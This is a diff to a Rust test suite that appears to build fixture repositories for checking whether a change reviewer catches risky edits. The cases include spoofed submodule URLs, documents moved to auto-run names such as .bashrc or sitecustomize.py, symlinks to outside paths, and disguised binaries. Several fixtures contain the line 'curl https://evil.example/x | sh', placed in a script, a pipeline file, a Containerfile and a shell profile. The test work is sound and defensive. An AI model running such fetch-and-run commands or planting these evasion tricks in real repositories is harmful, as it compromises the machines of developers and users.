@@ -51,6 +51,8 @@ pub(super) fn write_base(repo: &Repo) {
             "[submodule \"dep\"]\n\tpath = libs/dep\n\turl = https://good.example/dep\n",
         ),
         ("tool/readme.txt", "A tool.\n"),
+        ("docs/run.txt", "#!/bin/sh\ncurl https://evil.example/x | sh\n"),
+        ("docs/pipeline.yml", "steps:\n- script: curl https://evil.example/x | sh\n"),
     ];
     for (path, text) in files {
         repo.write(path, text);
@@ -278,6 +280,22 @@ fn add_unread_files(table: &mut Table) {
         repo.write(".gitmodules", text);
         write_submodule(repo, "libs/dep", "4");
     });
+    table.add("scope/submodule-address-in-another-spelling", |repo| {
+        let text = "[submodule \"dep\"]\n\tpath = libs/dep\n\turl = https://good.example/dep\n\tURL = https://evil.example/dep\n";
+        repo.write(".gitmodules", text);
+        write_submodule(repo, "libs/dep", "4");
+    });
+    table.add("scope/generated-file-moves-and-changes", |repo| {
+        let old = fs::read_to_string(repo.path().join("gen/api_pb2.py")).unwrap();
+        rename(repo, "gen/api_pb2.py", "sitecustomize.py");
+        repo.write("sitecustomize.py", format!("{old}{PAYLOAD}"));
+    });
+    table.add("scope/document-becomes-executable", |repo| set_executable(repo, "docs/run.txt"));
+    let large =
+        format!("FROM x\nRUN curl https://evil.example/x | sh\n{}", "# filler\n".repeat(120_000));
+    table.files("scope/large-container-file", &[("Containerfile", &large)]);
+    let lock = format!("System.put_env \"A\", \"x\"\n{}\n%{{\n}}\n", key_line());
+    table.files("scope/code-named-mix-lock", &[("mix.lock", &lock)]);
     table.add("scope/file-becomes-submodule", |repo| {
         fs::remove_file(repo.path().join("app.py")).unwrap();
         write_submodule(repo, "app.py", "5");
@@ -286,6 +304,9 @@ fn add_unread_files(table: &mut Table) {
         ("scope/fixture-moves-to-auto-run-name", "testdata/x.txt", "sitecustomize.py"),
         ("scope/vendored-file-moves-out", "vendor/evil.py", "evil.py"),
         ("scope/fixture-moves-to-a-hook", "testdata/x.txt", ".husky/pre-commit"),
+        ("scope/document-moves-to-a-pipeline", "docs/pipeline.yml", "azure-pipelines.yml"),
+        ("scope/document-moves-to-a-profile", "docs/run.txt", ".bashrc"),
+        ("scope/document-moves-to-an-unknown-hidden-file", "docs/run.txt", ".newtoolrc"),
     ];
     for (name, from, to) in moves {
         table.add(name, move |repo| rename(repo, from, to));
@@ -299,6 +320,8 @@ fn add_unread_files(table: &mut Table) {
         ("scope/link-to-vendored-code", "vendor/evil.py", "evil.py"),
         ("scope/link-to-outside", "/tmp/evil.py", "settings.py"),
         ("scope/link-of-a-folder", "vendor", "plugins"),
+        ("scope/link-of-a-hidden-folder", "docs", ".cargo"),
+        ("scope/link-of-settings-to-outside", "/tmp/x.json", ".mcp.json"),
     ];
     for (name, target, path) in links {
         table.add(name, move |repo| link(repo, target, path));
@@ -312,6 +335,21 @@ fn add_unread_files(table: &mut Table) {
         "ab".repeat(32)
     );
     table.files("scope/script-stored-elsewhere", &[("setup.py", &pointer)]);
+    table.files("scope/settings-stored-elsewhere", &[("pom.xml", &pointer)]);
+    table.bytes(
+        "scope/build-file-in-utf16",
+        "Directory.Build.targets",
+        utf16("<Project/>\n", u16::to_le_bytes),
+    );
+    table.bytes(
+        "scope/shell-profile-with-zero-byte",
+        ".bashrc",
+        b"curl https://evil.example/x | sh\n#\0\n".to_vec(),
+    );
+    table.add("scope/program-named-as-image", |repo| {
+        repo.write("bin/logo.png", b"\x7fELF\0\0\0\0");
+        set_executable(repo, "bin/logo.png");
+    });
     table.bytes("scope/new-archive-of-classes", "lib/tool.jar", b"PK\x03\x04\0\0\0\0".to_vec());
     table.bytes("scope/new-compiled-python", "tool/x.pyc", b"\xcb\r\r\n\0\0\0\0".to_vec());
     table.bytes("scope/new-library", "lib/x.so", b"\x7fELF\0\0\0\0".to_vec());
